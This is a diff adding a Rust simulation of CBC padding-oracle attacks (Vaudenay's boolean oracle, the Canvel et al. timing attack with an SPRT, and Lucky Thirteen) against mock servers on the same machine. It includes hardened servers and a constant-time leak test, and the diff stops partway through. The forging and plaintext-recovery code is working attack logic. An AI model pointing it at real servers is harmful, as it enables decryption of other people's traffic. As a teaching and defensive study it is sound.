@@ -0,0 +1,947 @@
+mod calibration;
+mod cipher;
+mod dudect;
+mod guessing;
+mod lucky13;
+mod net;
+mod sprt;
+
+use std::cell::Cell;
+use std::fmt;
+use std::io::{self, Write};
+use std::time::{Duration, Instant};
+use std::thread;
+
+use rand::Rng;
+
+use calibration::{LikelihoodModel, TimingModel};
+use cipher::{CbcCipher, CipherKind};
+use guessing::CandidateOrder;
+use lucky13::{Baseline, TlsServer};
+use net::RemoteOracle;
+use sprt::{AttackStats, Decision, SprtConfig};
+
+// --- Configuration ---
+const MAC_CHECK_DELAY_MS: u64 = 20; // Simulated time for MAC check(Success path)
+const PADDING_ERROR_DELAY_MS: u64 = 2; // Simulated time for Padding error (Fast fail)
+const NOISE_MAGNITUDE_MS: u64 = 1; // Simulated network jitter
+
+// --- Error recovery ---
+const RETRY_PASSES: usize = 2; // Extra passes over all candidates, each with a stricter SPRT
+const MAX_BACKTRACKS: usize = 4; // Bytes that may be taken back per block before giving up
+
+// --- Mock Oracle (The Vulnerable Server) ---
+struct MockOracle {
+    cipher: CbcCipher,
+    secret_message: Vec<u8>,
+    queries: Cell<usize>, // How many forged records the attacker has sent so far
+    last_padding_valid: Cell<bool>, // Ground truth of the last query, for scoring the attack only
+    noise_ms: u64,                  // Upper bound of the random delay added to every reply
+    constant_time: bool,            // Hardened: padding errors are handled exactly like MAC errors
+}
+
+/// What the server sends back for a forged record in the boolean (Vaudenay) setting.
+/// Early SSL/TLS implementations answered with distinct alerts, which leaks the padding check directly.
+#[derive(Debug, PartialEq)]
+enum ServerError {
+    PaddingError, // decryption_failed: padding was malformed
+    MacError,     // bad_record_mac: padding was fine, the MAC (which we cannot forge) was not
+}
+
+/// Everything the attacker can do to the server. Implemented by the in-process `MockOracle`
+/// and by `net::RemoteOracle`, which reaches a `MockOracle` over a localhost socket.
+/// Talking to the server can fail (the connection drops, the reply makes no sense), hence `io::Result`.
+trait PaddingOracle {
+    fn block_size(&self) -> usize;
+
+    /// How many forged records the attacker has sent so far
+    fn queries(&self) -> usize;
+
+    /// Whether the padding of the most recent query was really valid.
+    /// A real attacker never sees this; the simulation uses it to count wrong SPRT decisions.
+    fn last_padding_valid(&self) -> bool;
+
+    /// Simulates capturing a whole record off the wire: [IV, y_1, y_2, ..., y_n]
+    /// The number of blocks (i.e. the padded length) is visible to any eavesdropper.
+    fn capture_record(&self) -> io::Result<Vec<Vec<u8>>>;
+
+    /// Sends a forged record (IV, ciphertext) and returns the explicit error.
+    fn query_explicit(&self, iv: &[u8], ciphertext: &[u8]) -> io::Result<ServerError>;
+
+    /// Sends a forged record (IV, ciphertext) and returns how long the reply took.
+    fn query(&self, iv: &[u8], ciphertext: &[u8]) -> io::Result<Duration>;
+
+    /// Simulates capturing a legitimate session
+    /// Returns (y_prev, y)where y is the target block and y_prev is the block before it (the IV for block 0).
+    fn capture_session(&self, block_index: usize) -> io::Result<(Vec<u8>, Vec<u8>)> {
+        let mut record = self.capture_record()?;
+        let y = record.swap_remove(block_index + 1);
+        let y_prev = record.swap_remove(block_index);
+        Ok((y_prev, y))
+    }
+}
+
+/// Which side channel the attacker reads the padding check from.
+#[derive(Clone, Copy)]
+enum AttackMode<'a> {
+    Timing(&'a TimingModel, SprtConfig), // Canvel et al.: MAC check is only computed after valid padding -> slower reply
+    Boolean,                             // Vaudenay: the error message itself says which check failed
+}
+
+impl AttackMode<'_> {
+    fn name(&self) -> String {
+        match self {
+            AttackMode::Timing(model, _) => format!("Timing ({:?})", model.likelihood),
+            AttackMode::Boolean => "Boolean".to_string(),
+        }
+    }
+
+    /// The same side channel read more carefully (only the timing test has anything to tighten).
+    fn stricter(&self) -> Self {
+        match *self {
+            AttackMode::Timing(model, sprt) => AttackMode::Timing(model, sprt.stricter()),
+            AttackMode::Boolean => AttackMode::Boolean,
+        }
+    }
+}
+
+/// Why the attack could not recover the plaintext.
+#[derive(Debug)]
+enum AttackError {
+    // No candidate passed for this byte, even after retries and backtracking.
+    // position counts from the start of the block, like the plaintext itself.
+    ByteNotFound { block_index: usize, position: usize },
+    BlockRejected { block_index: usize }, // Every byte was accepted, but the block as a whole never checked out
+    BadPadding(u8), // The recovered last byte is not a possible padding length
+    Oracle(io::Error), // Could not talk to the server, e.g. the connection dropped
+}
+
+impl From<io::Error> for AttackError {
+    fn from(error: io::Error) -> Self {
+        AttackError::Oracle(error)
+    }
+}
+
+impl fmt::Display for AttackError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            AttackError::ByteNotFound { block_index, position } => {
+                write!(f, "no candidate accepted for byte {} of block {}", position + 1, block_index + 1)
+            }
+            AttackError::BlockRejected { block_index } => {
+                write!(f, "block {} was recovered but failed verification", block_index + 1)
+            }
+            AttackError::BadPadding(l) => write!(f, "recovered padding byte {:#04x} is longer than a block", l),
+            AttackError::Oracle(error) => write!(f, "lost the oracle: {}", error),
+        }
+    }
+}
+
+impl MockOracle {
+    fn new(secret: &str, kind: CipherKind) -> Self {
+        MockOracle::with_noise(secret, kind, NOISE_MAGNITUDE_MS)
+    }
+
+    /// A server whose replies jitter by up to `noise_ms`, e.g. one further away on the network.
+    fn with_noise(secret: &str, kind: CipherKind, noise_ms: u64) -> Self {
+        // Pad the secret to block size using PKCS#7 (RFC 5652) logic
+        let block_size = kind.block_size();
+        let mut msg = secret.as_bytes().to_vec();
+        let padding_len = block_size - (msg.len() % block_size);
+        let padding_byte = (padding_len - 1) as u8;
+        // // Clarification: TLS/PKCS7 usually uses value = len.
+        // Paper says "LEN is a single byte... length of PAD... bytes equal to LEN"
+        // However, standard PKCS7 for 8 byte block : if 1 byte pad, value is 0x01.
+        // Paper notation Check1 [cite: 69] uses R = (i-1)...(i-1) where i is length.
+        // This implies for length 1, value is 0. This matches the paper's specific notation
+        // We will stick strictly to the paper's formula: Pad value = length - 1.
+
+        msg.extend(std::iter::repeat_n(padding_byte, padding_len));
+        MockOracle {
+            cipher: CbcCipher::random(kind, &mut rand::thread_rng()), // Session key, unknown to the attacker
+            secret_message: msg,
+            queries: Cell::new(0),
+            last_padding_valid: Cell::new(false),
+            noise_ms,
+            constant_time: false,
+        }
+    }
+
+    /// The fixed server: a bad padding still goes through the MAC check and gets the same alert,
+    /// so neither the reply nor the work behind it depends on the padding.
+    fn hardened(secret: &str, kind: CipherKind) -> Self {
+        MockOracle { constant_time: true, ..MockOracle::new(secret, kind) }
+    }
+
+    /// Decrypts the forged record and runs the padding check shared by both oracles.
+    /// The record may span several blocks; the padding sits at the end of the last one.
+    fn padding_is_valid(&self, iv: &[u8], ciphertext: &[u8]) -> bool {
+        self.queries.set(self.queries.get() + 1);
+        let block_size = self.block_size();
+        if ciphertext.is_empty() || !ciphertext.len().is_multiple_of(block_size) || iv.len() != block_size {
+            // Not a whole number of blocks: rejected before decryption, like a bad padding
+            self.last_padding_valid.set(false);
+            return false;
+        }
+
+        // 1. Decrypt and CBC Unchain: P = D(y) XOR IV
+        let plaintext = self.cipher.decrypt(iv, ciphertext);
+
+        // 2. Check Padding
+        // Paper[cite:26]: "PAD is required ... to consist of l bytes equal to l"
+        // in our implementation of the paper's logic, the last byte is the length indicator 'l'
+        let end = plaintext.len();
+        let l = plaintext[end - 1] as usize;
+        let pad_len = l + 1; // Assuming 0-indexed byte value (0x00 means 1 byte)
+
+        // Check that the preceding bytes are alse 'l'
+        let valid = pad_len <= block_size && plaintext[end - pad_len..].iter().all(|&b| b == l as u8);
+        self.last_padding_valid.set(valid);
+        valid
+    }
+
+    /// Handles a forged record the way the server would and returns its reply together with the
+    /// simulated milliseconds of work spent on it. Every record is decrypted and its padding checked;
+    /// the expensive MAC check runs only after a good padding, or always on the hardened server.
+    fn process(&self, iv: &[u8], ciphertext: &[u8]) -> (ServerError, u64) {
+        let padding_valid = self.padding_is_valid(iv, ciphertext);
+        let mut work_ms = PADDING_ERROR_DELAY_MS;
+        if !padding_valid && !self.constant_time {
+            return (ServerError::PaddingError, work_ms); // Abort (Cheap)
+        }
+        // Proceed to the MAC check (Expensive); a forged record never carries a valid MAC
+        work_ms += MAC_CHECK_DELAY_MS - PADDING_ERROR_DELAY_MS;
+        (ServerError::MacError, work_ms)
+    }
+
+    /// The server's side of `capture_record`, which cannot fail in-process.
+    fn record(&self) -> Vec<Vec<u8>> {
+        // In a real attack, we capture ciphertext off the wire.
+        // Here, we perform encryption to generate the valid ciphertext for the attacker to see.
+        // Every session starts from a fresh random IV, so the ciphertext differs each time.
+        let block_size = self.block_size();
+        let mut iv = vec![0u8; block_size];
+        rand::thread_rng().fill(iv.as_mut_slice());
+
+        // Encrypt: y_j = Enc(x_j XOR y_{j-1}) over the whole record
+        let ciphertext = self.cipher.encrypt(&iv, &self.secret_message);
+        std::iter::once(iv).chain(ciphertext.chunks(block_size).map(<[u8]>::to_vec)).collect()
+    }
+
+    /// The Boolean Oracle [Vaudenay 2002]
+    /// Answers immediately, but with a different error for each failed check.
+    fn alert(&self, iv: &[u8], ciphertext: &[u8]) -> ServerError {
+        self.process(iv, ciphertext).0
+    }
+
+    /// The Oracle Function O(ciphertext) [cite:43]
+    /// Receives ciphertext, decrypts, checks padding, and returns timing.
+    /// Both failures produce the same error message; only the time differs.
+    fn reply_time(&self, iv: &[u8], ciphertext: &[u8]) -> Duration {
+        let start = Instant::now();
+
+        // 3. Side Channel Response: the reply leaves once the work actually done is over
+        let (_reply, base_delay) = self.process(iv, ciphertext);
+        // Add simulated network noise (none at all for a server on the same machine)
+        let noise = match self.noise_ms {
+            0 => 0,
+            noise_ms => rand::thread_rng().gen_range(0..noise_ms * 1_000_000),
+        };
+        let total_delay_ns = (base_delay * 1_000_000) + noise;
+
+        // Sleep to simualate the time processing
+        thread::sleep(Duration::from_nanos(total_delay_ns));
+
+        start.elapsed()
+    }
+}
+
+impl PaddingOracle for MockOracle {
+    fn block_size(&self) -> usize {
+        self.cipher.block_size()
+    }
+
+    fn queries(&self) -> usize {
+        self.queries.get()
+    }
+
+    fn last_padding_valid(&self) -> bool {
+        self.last_padding_valid.get()
+    }
+
+    fn capture_record(&self) -> io::Result<Vec<Vec<u8>>> {
+        Ok(self.record())
+    }
+
+    fn query_explicit(&self, iv: &[u8], ciphertext: &[u8]) -> io::Result<ServerError> {
+        Ok(self.alert(iv, ciphertext))
+    }
+
+    fn query(&self, iv: &[u8], ciphertext: &[u8]) -> io::Result<Duration> {
+        Ok(self.reply_time(iv, ciphertext))
+    }
+}
+
+
+// --- The Attacker ---
+
+/// Generates a simple random byed for simulation
+fn random_byte() -> u8 {
+    rand::thread_rng().gen_range(0..=255)
+}
+
+/// Builds the forged IV 'r' so that, if our guess 'u' is right, the oracle sees padding (i-1)...(i-1).
+/// Formula: r <- (L | (R XOR u)) XOR 'y' [cite:: 237]
+/// L: Random filler
+/// R: Target padding pattern (i-1)
+/// u: Our guess
+/// y': The IV/Previous block from the captured session
+fn forge_block(u: &[u8], y_prime: &[u8], block_size: usize) -> Vec<u8> {
+    let i = u.len();
+    let mut r = vec![0u8; block_size];
+    // Fill L (random junk)
+    for byte in r.iter_mut().take(block_size - i) {
+        *byte = random_byte();
+    }
+    // Construct (R XOR u) XOR y' for the suffix
+    let pad_byte = (i - 1) as u8; // The padding byte value we want the oracle to see
+
+    for (k, &guess) in u.iter().enumerate() {
+        let idx = block_size - i + k;
+        let r_val = pad_byte ^ guess; // R XOR u
+        r[idx] = r_val ^ y_prime[idx]; // ... XOR y'
+    }
+    r
+}
+
+/// Check with the boolean oracle: one query is a definite answer.
+fn check_boolean(oracle: &impl PaddingOracle, u: &[u8], block_index: usize) -> io::Result<Decision> {
+    let (y_prime, y) = oracle.capture_session(block_index)?;
+    let r = forge_block(u, &y_prime, oracle.block_size());
+    Ok(match oracle.query_explicit(&r, &y)? {
+        ServerError::MacError => Decision::Accept,
+        ServerError::PaddingError => Decision::Reject,
+    })
+}
+
+/// THe Check4 Algorithm [cite:223]
+/// Tests if a candidate suffix 'u' is correct by querying the Oracle.
+fn check4(oracle: &impl PaddingOracle, model: &TimingModel, sprt: &SprtConfig, u: &[u8], block_index: usize) -> io::Result<Decision> {
+    // Sequential Probability Ratio Test (SPRT) variables
+    let mut log_likelihood_ratio: f64 = 0.0;
+    let block_size = oracle.block_size();
+
+    // The timing distributions D_R and D_W come from the calibration phase (Section 2.2).
+    // The thresholds ln A / ln B come from the error bounds epilon+ and epsilon- [cite: 181]
+    let (accept, reject) = (sprt.accept_threshold(), sprt.reject_threshold());
+
+    // We loop until the sequential text decideds [cite: 242]
+    for _ in 0..sprt.max_queries {
+        // 1. Wait for a new session and get current y and y' [cite: 227]
+            let (y_prime, y) = oracle.capture_session(block_index)?;
+            // 2. Construct the attack block 'r'
+            let r = forge_block(u, &y_prime, block_size);
+
+            // 3. Query Oracle with constructed IV 'r' and target block 'y'
+            let duration = oracle.query(&r, &y)?;
+            let t_j = duration.as_secs_f64() * 1000.0;
+
+            // 4. Update SPRT Log-Likelihood [cite: 121]
+            // LLR += ln( P(T|Valid) / P(T|Invalid))
+            log_likelihood_ratio += model.log_likelihood_ratio(t_j);
+
+            // 5. Check Thresholds (STOP predicate) [cite: 172]
+            if log_likelihood_ratio >= accept {
+                return Ok(Decision::Accept); // Accepted: The oracle spent time, so padding was valid!
+            }
+            if log_likelihood_ratio <= reject {
+                return Ok(Decision::Reject); // Rejected: The oracle returned fast, padding was invalid.
+            }
+
+    }
+    // Out of budget without crossing either bound
+    Ok(Decision::Undecided)
+}
+
+/// Runs one test of the candidate suffix 'u' and records how it went.
+/// An undecided SPRT counts as a rejection.
+fn check(oracle: &impl PaddingOracle, mode: AttackMode<'_>, u: &[u8], block_index: usize, stats: &mut AttackStats) -> io::Result<bool> {
+    let decision = match mode {
+        AttackMode::Timing(model, sprt) => check4(oracle, model, &sprt, u, block_index)?,
+        AttackMode::Boolean => check_boolean(oracle, u, block_index)?,
+    };
+    stats.record(decision, oracle.last_padding_valid());
+    Ok(decision == Decision::Accept)
+}
+
+/// Re-checks an already accepted suffix with a stricter test.
+/// These queries belong to no single byte, so they are counted separately.
+fn verify(oracle: &impl PaddingOracle, mode: AttackMode<'_>, u: &[u8], block_index: usize, stats: &mut AttackStats) -> io::Result<bool> {
+    let queries_before = oracle.queries();
+    let verified = check(oracle, mode.stricter(), u, block_index, stats);
+    stats.verification_queries += oracle.queries() - queries_before;
+    verified
+}
+
+/// The DecrypByte4 Algorithm [cite: 207]
+/// Recovers one byte of the plaintext, skipping the values in `ruled_out`.
+fn decrypt_byte4(
+    oracle: &impl PaddingOracle,
+    mode: AttackMode<'_>,
+    candidates: &[u8],
+    known_suffix: &[u8],
+    ruled_out: &[u8],
+    block_index: usize,
+    stats: &mut AttackStats,
+) -> Result<u8, AttackError> {
+    let (queries_before, verified_before) = (oracle.queries(), stats.verification_queries);
+    // If a whole pass rejects everything, the right byte was probably a false negative:
+    // go over the candidates again with a stricter (longer) test.
+    let mut pass_mode = mode;
+    for _pass in 0..=RETRY_PASSES {
+        // Candidates are tried in order of likelihood (Dictionary Attack [cite: 256]), see guessing.rs
+        for &candidate in candidates.iter().filter(|c| !ruled_out.contains(c)) {
+            // Construct trial suffix : candidate | known_suffix
+            let mut u = vec![candidate];
+            u.extend_from_slice(known_suffix);
+
+            // Check if this guess creates valid padding
+            // A wrong guess can still pass once: in timing mode a single slow reply (e.g. a scheduler
+            // hiccup) can push the SPRT over the accept threshold, and in either mode the random filler
+            // can happen to form a longer valid padding. Over a multi-block message that happens sooner
+            // or later, so a candidate is accepted only when a second, stricter test agrees.
+            // That second test is a verification, so its queries are not charged to the byte.
+            if check(oracle, pass_mode, &u, block_index, stats)? && verify(oracle, pass_mode, &u, block_index, stats)? {
+                stats.queries_per_byte.push(oracle.queries() - queries_before - (stats.verification_queries - verified_before));
+                return Ok(candidate);
+            }
+        }
+        pass_mode = pass_mode.stricter();
+    }
+    stats.queries_per_byte.push(oracle.queries() - queries_before - (stats.verification_queries - verified_before));
+    Err(AttackError::ByteNotFound { block_index, position: oracle.block_size() - known_suffix.len() - 1 })
+}
+
+/// The DecryptBlock4 Algorithm
+/// Recovers a full block of plaintext.
+/// A suffix passes the padding check only if every byte in it is right, so a false accept
+/// shows up later: either no candidate fits the next byte, or the finished block fails a
+/// final check. Then bytes are taken back until the rest passes a strict check again.
+fn decrypt_block4(
+    oracle: &impl PaddingOracle,
+    mode: AttackMode<'_>,
+    candidates: &[u8],
+    block_index: usize,
+    stats: &mut AttackStats,
+) -> Result<Vec<u8>, AttackError> {
+     let mut decrypted_block: Vec<u8> = Vec::new();
+     // ruled_out[k]: values taken back at the (k+1)-th byte from the end
+     let mut ruled_out: Vec<Vec<u8>> = vec![Vec::new()];
+     let mut backtracks = 0;
+
+     // Iterate backwards from last byted to first [cite: 202]
+     // The paper iterates i=1 to b, building the suffix.
+     loop {
+        let depth = decrypted_block.len();
+        let error = if depth < oracle.block_size() {
+            match decrypt_byte4(oracle, mode, candidates, &decrypted_block, &ruled_out[depth], block_index, stats) {
+                Ok(byte) => {
+                    // Prepend the found byte
+                    decrypted_block.insert(0, byte);
+                    ruled_out.push(Vec::new());
+
+                    // Visual progress
+                    print!("{:02x} ", byte);
+                    io::stdout().flush().unwrap();
+                    continue;
+                }
+                Err(error) => error,
+            }
+        } else if verify(oracle, mode, &decrypted_block, block_index, stats)? {
+            break; // The whole block as one padding pattern: all bytes are right
+        } else {
+            AttackError::BlockRejected { block_index }
+        };
+
+        if backtracks == MAX_BACKTRACKS {
+            println!();
+            return Err(error);
+        }
+        let mut taken_back = None;
+        while !decrypted_block.is_empty() && !verify(oracle, mode, &decrypted_block, block_index, stats)? {
+            taken_back = Some(decrypted_block.remove(0));
+            ruled_out.pop();
+        }
+        match taken_back {
+            Some(wrong) => {
+                backtracks += 1;
+                stats.backtracks += 1;
+                ruled_out[decrypted_block.len()].push(wrong);
+                print!("(take back {:02x}) ", wrong);
+            }
+            // The finished block passed on the second look
+            None if depth == oracle.block_size() => break,
+            // Everything accepted so far holds up, so this byte itself cannot be found
+            None => {
+                println!();
+                return Err(error);
+            }
+        }
+     }
+     println!();
+     Ok(decrypted_block)
+}
+
+/// Decrypts every block of the record, then strips the padding.
+/// Block j is attacked with the real ciphertext block y_{j-1} in front of it,
+/// so the last block (which holds the padding) is handled like any other.
+fn decrypt_message4(
+    oracle: &impl PaddingOracle,
+    mode: AttackMode<'_>,
+    candidates: &[u8],
+    stats: &mut AttackStats,
+) -> Result<Vec<u8>, AttackError> {
+    let block_count = oracle.capture_record()?.len() - 1;
+    let mut padded = Vec::new();
+    for block_index in 0..block_count {
+        print!("Decrypting Block {}/{}: ", block_index + 1, block_count);
+        padded.extend(decrypt_block4(oracle, mode, candidates, block_index, stats)?);
+    }
+
+    // Paper's padding: the last byte l means l + 1 padding bytes
+    let l = *padded.last().expect("a record has at least one block");
+    let pad_len = l as usize + 1;
+    if pad_len > oracle.block_size() {
+        return Err(AttackError::BadPadding(l));
+    }
+    padded.truncate(padded.len() - pad_len);
+    Ok(padded)
+}
+
+fn main() {
+    if let Err(error) = run() {
+        eprintln!("Attack failed: {}", error);
+        std::process::exit(1);
+    }
+}
+
+fn run() -> Result<(), AttackError> {
+    println!("--- CBC-PAD Timing Attack Simulation (Vaudenay/Canvel et al.) ---");
+
+    let secret = "login: alice / pw: PASSWRD1"; // 27 chars, not a multiple of any block size
+    let sprt = SprtConfig::default();
+    println!(
+        "SPRT: alpha {:e}, beta {:e} -> accept above ln A = {:.2}, reject below ln B = {:.2}, give up after {} queries",
+        sprt.false_positive,
+        sprt.false_negative,
+        sprt.accept_threshold(),
+        sprt.reject_threshold(),
+        sprt.max_queries
+    );
+    let mut summary = Vec::new();
+
+    for kind in [CipherKind::Des, CipherKind::TripleDes, CipherKind::Aes128] {
+        let oracle = MockOracle::new(secret, kind);
+
+        println!("\nTarget Secret: [Redacted]");
+        println!("Cipher: {} (Block Size: {} bytes)", oracle.cipher.kind().name(), oracle.block_size());
+
+        // Learn D_R and D_W from 50 known-valid and 50 known-invalid queries
+        let gaussian = TimingModel::calibrate(&oracle, 50, LikelihoodModel::Gaussian)?;
+        gaussian.print_summary();
+        let candidates = CandidateOrder::Frequency.candidates(oracle.block_size());
+
+        for mode in [AttackMode::Timing(&gaussian, sprt), AttackMode::Boolean] {
+            println!("Starting {} Attack...\n:", mode.name());
+
+            let start_time = Instant::now();
+            let mut stats = AttackStats::default();
+
+            let recovered_bytes = decrypt_message4(&oracle, mode, &candidates, &mut stats)?;
+
+            let recovered_string = String::from_utf8_lossy(&recovered_bytes);
+
+            println!("\nAttack Complete in {:.2?} ({} queries)", start_time.elapsed(), stats.total_queries());
+            stats.print_summary();
+            println!("Recovered Hex: {:02x?}", recovered_bytes);
+            println!("Recovered Text: {}", recovered_string);
+
+            assert_eq!(recovered_string, secret);
+            println!("SUCCESS: Secret matches!\n");
+            summary.push((kind, mode.name(), stats, start_time.elapsed()));
+        }
+    }
+
+    // Both modes share decrypt_byte4, so the query counts differ only by how many
+    // replies each check needs before it can decide.
+    println!("--- Summary ---");
+    println!("{:<12} | {:<20} | {:>8} | {:>10} | {:>10}", "Cipher", "Mode", "Queries", "Per byte", "Time");
+    for (kind, mode, stats, elapsed) in &summary {
+        println!(
+            "{:<12} | {:<20} | {:>8} | {:>10.1} | {:>10.2?}",
+            kind.name(),
+            mode,
+            stats.total_queries(),
+            stats.total_queries() as f64 / stats.queries_per_byte.len() as f64,
+            elapsed
+        );
+    }
+
+    // --- Efficiency vs Reliability ---
+    // Tighter error bounds widen [ln B, ln A], so each check needs more replies.
+    // The Gaussian fit separates D_R and D_W so well that one reply always crosses any bound,
+    // so this uses the histogram model, whose per-reply evidence is only a few nats.
+    println!("\n--- SPRT error bounds vs cost (DES-CBC, block 1, histogram model) ---");
+    let oracle = MockOracle::new(secret, CipherKind::Des);
+    let histogram = TimingModel::calibrate(&oracle, 50, LikelihoodModel::Histogram)?;
+    histogram.print_histogram();
+    let candidates = CandidateOrder::Frequency.candidates(oracle.block_size());
+    let mut tradeoff = Vec::new();
+    for bound in [1e-1, 1e-3, 1e-6] {
+        let config = SprtConfig::new(bound, bound, 100);
+        let start_time = Instant::now();
+        let mut stats = AttackStats::default();
+        print!("alpha = beta = {:e}: ", bound);
+        let block = decrypt_block4(&oracle, AttackMode::Timing(&histogram, config), &candidates, 0, &mut stats)?;
+        assert_eq!(block, secret.as_bytes()[..oracle.block_size()]);
+        tradeoff.push((config, stats, start_time.elapsed()));
+    }
+    println!(
+        "{:>8} | {:>7} | {:>7} | {:>8} | {:>6} | {:>6} | {:>9} | {:>8}",
+        "alpha", "ln A", "ln B", "Per byte", "FP", "FN", "Undecided", "Time"
+    );
+    for (config, stats, elapsed) in &tradeoff {
+        println!(
+            "{:>8.0e} | {:>7.2} | {:>7.2} | {:>8.1} | {:>6} | {:>6} | {:>9} | {:>8.2?}",
+            config.false_positive,
+            config.accept_threshold(),
+            config.reject_threshold(),
+            stats.total_queries() as f64 / stats.queries_per_byte.len() as f64,
+            stats.false_positives,
+            stats.false_negatives,
+            stats.undecided,
+            elapsed
+        );
+    }
+
+    // --- Candidate ordering ---
+    // The checks themselves cost the same either way, so the boolean oracle is enough to
+    // count how many queries the dictionary ordering saves (timing mode scales with it).
+    println!("\n--- Candidate ordering vs queries (boolean oracle) ---");
+    let mut ordering = Vec::new();
+    for kind in [CipherKind::Des, CipherKind::TripleDes, CipherKind::Aes128] {
+        let oracle = MockOracle::new(secret, kind);
+        let mut queries = [0; 2];
+        for (order, queries) in [CandidateOrder::Sequential, CandidateOrder::Frequency].into_iter().zip(&mut queries) {
+            let mut stats = AttackStats::default();
+            print!("{} / {}: ", kind.name(), order.name());
+            let candidates = order.candidates(oracle.block_size());
+            let recovered = decrypt_message4(&oracle, AttackMode::Boolean, &candidates, &mut stats)?;
+            assert_eq!(recovered, secret.as_bytes());
+            *queries = stats.total_queries();
+        }
+        ordering.push((kind, queries));
+    }
+    println!("{:<12} | {:>10} | {:>14} | {:>6}", "Cipher", "Sequential", "Byte frequency", "Saved");
+    for (kind, queries) in &ordering {
+        println!(
+            "{:<12} | {:>10} | {:>14} | {:>5.1}%",
+            kind.name(),
+            queries[0],
+            queries[1],
+            100.0 * (1.0 - queries[1] as f64 / queries[0] as f64)
+        );
+    }
+
+    // --- Recovering from wrong decisions ---
+    // A far-away server: up to 25 ms of jitter on top of the 2 / 20 ms paths, so D_R and D_W overlap,
+    // and a deliberately loose SPRT. Single checks now go wrong regularly; retries with a stricter
+    // test catch the missed bytes and backtracking takes back the false accepts.
+    println!("\n--- Noisy server, loose SPRT (DES-CBC, block 1) ---");
+    let oracle = MockOracle::with_noise(secret, CipherKind::Des, 25);
+    let noisy = TimingModel::calibrate(&oracle, 50, LikelihoodModel::Gaussian)?;
+    noisy.print_summary();
+    let loose = SprtConfig::new(0.4, 0.4, 2);
+    let candidates = CandidateOrder::Frequency.candidates(oracle.block_size());
+    let mut stats = AttackStats::default();
+    let start_time = Instant::now();
+    match decrypt_block4(&oracle, AttackMode::Timing(&noisy, loose), &candidates, 0, &mut stats) {
+        Ok(block) => println!("Recovered: {:?}", String::from_utf8_lossy(&block)),
+        Err(error) => println!("Attack failed: {}", error),
+    }
+    println!("Time: {:.2?}", start_time.elapsed());
+    stats.print_summary();
+
+    // --- Lucky Thirteen ---
+    // Padding errors and MAC errors now look identical, in content and (almost) in time:
+    // the only difference left is one SHA-1 compression inside the MAC check.
+    println!("\n--- Lucky Thirteen: MAC-then-encrypt (AES-128-CBC, HMAC-SHA1) ---");
+    let cookie = "Cookie: session=8c1f0e7a2b9d4c63";
+    let server = TlsServer::new(cookie.as_bytes());
+    let baseline = Baseline::calibrate(&server, 200);
+    println!("Bad padding baseline: {:.0} ns, sd {:.0} ns", baseline.mean, baseline.sd);
+    let candidates = CandidateOrder::Frequency.candidates(16);
+    let start_time = Instant::now();
+    let mut recovered = Vec::new();
+    for block_index in 0..server.data_blocks() {
+        print!("Decrypting Block {}/{}: ", block_index + 1, server.data_blocks());
+        let block = lucky13::recover_block(&server, block_index, &candidates, &baseline, |byte| {
+            print!("{:02x} ", byte);
+            io::stdout().flush().unwrap();
+        })?;
+        println!();
+        recovered.extend(block);
+    }
+    let recovered = String::from_utf8_lossy(&recovered);
+    println!("Recovered Text: {}", recovered);
+    println!("{} queries in {:.2?}", server.queries(), start_time.elapsed());
+    assert_eq!(recovered, cookie);
+
+    // --- Verifying the fix ---
+    // Class 0: records with valid padding, class 1: records with bad padding. The tester holds
+    // the plaintext, so it can build both on purpose. A leak shows up as |t| > 4.5.
+    println!("\n--- Constant-time check (Welch's t-test, dudect-style) ---");
+    let mut reports = Vec::new();
+    for (name, oracle) in [
+        ("CBC-PAD", MockOracle::new(secret, CipherKind::Des)),
+        ("CBC-PAD hardened", MockOracle::hardened(secret, CipherKind::Des)),
+    ] {
+        let record = oracle.record();
+        let (y_prev, y) = (&record[record.len() - 2], &record[record.len() - 1]);
+        let mut broken_prev = y_prev.clone();
+        *broken_prev.last_mut().expect("blocks are never empty") ^= 0x80;
+        let report = dudect::measure(200, |class| {
+            let iv = if class == 0 { y_prev } else { &broken_prev };
+            oracle.reply_time(iv, y).as_secs_f64() * 1e9
+        });
+        reports.push((name, report));
+    }
+    for (name, server) in [
+        ("Lucky Thirteen", TlsServer::new(cookie.as_bytes())),
+        ("Lucky Thirteen hardened", TlsServer::hardened(cookie.as_bytes())),
+    ] {
+        let record = server.capture_record();
+        let mut valid = vec![0u8; 16];
+        valid[14] = cookie.as_bytes()[14] ^ 0x01;
+        valid[15] = cookie.as_bytes()[15] ^ 0x01;
+        let report = dudect::measure(20_000, |class| {
+            let mut delta = valid.clone();
+            if class == 1 {
+                rand::thread_rng().fill(delta.as_mut_slice());
+            }
+            server.query(&lucky13::forge(&record, 0, &delta)).as_nanos() as f64
+        });
+        reports.push((name, report));
+    }
+    println!(
+        "{:<24} | {:>13} | {:>13} | {:>11} | {:>8} | Verdict",
+        "Server", "Valid pad", "Bad pad", "Samples", "t"
+    );
+    for (name, report) in &reports {
+        println!(
+            "{:<24} | {:>10.0} ns | {:>10.0} ns | {:>11} | {:>8.2} | {}",
+            name,
+            report.means[0],
+            report.means[1],
+            format!("{}/{}", report.samples[0], report.samples[1]),
+            report.t,
+            if report.leaks() { "LEAKS" } else { "no leak detected" }
+        );
+    }
+    assert!(reports[0].1.leaks() && reports[2].1.leaks());
+    assert!(!reports[1].1.leaks() && !reports[3].1.leaks());
+
+    // --- Over the network ---
+    // The same DES attack as above, but the oracle runs behind a localhost TCP socket and the
+    // attacker times round trips, so socket and scheduler jitter end up in D_R and D_W.
+    println!("\n--- Timing attack over TCP (DES-CBC, localhost) ---");
+    let (addr, truth) = net::serve(MockOracle::new(secret, CipherKind::Des))?;
+    let remote = RemoteOracle::connect(addr, truth)?;
+    println!("Oracle server listening on {}", addr);
+    let model = TimingModel::calibrate(&remote, 50, LikelihoodModel::Gaussian)?;
+    model.print_summary();
+    let candidates = CandidateOrder::Frequency.candidates(remote.block_size());
+    let mut stats = AttackStats::default();
+    let start_time = Instant::now();
+    let recovered = decrypt_message4(&remote, AttackMode::Timing(&model, sprt), &candidates, &mut stats)?;
+    let elapsed = start_time.elapsed();
+    stats.print_summary();
+    println!("Recovered Text: {}", String::from_utf8_lossy(&recovered));
+    assert_eq!(recovered, secret.as_bytes());
+
+    let (_, _, local_stats, local_elapsed) = &summary[0];
+    let per_query = |elapsed: Duration, queries: usize| elapsed / queries as u32;
+    println!(
+        "In-process: {} queries in {:.2?} ({:.2?} each) | TCP: {} queries in {:.2?} ({:.2?} each)",
+        local_stats.total_queries(),
+        local_elapsed,
+        per_query(*local_elapsed, local_stats.total_queries()),
+        stats.total_queries(),
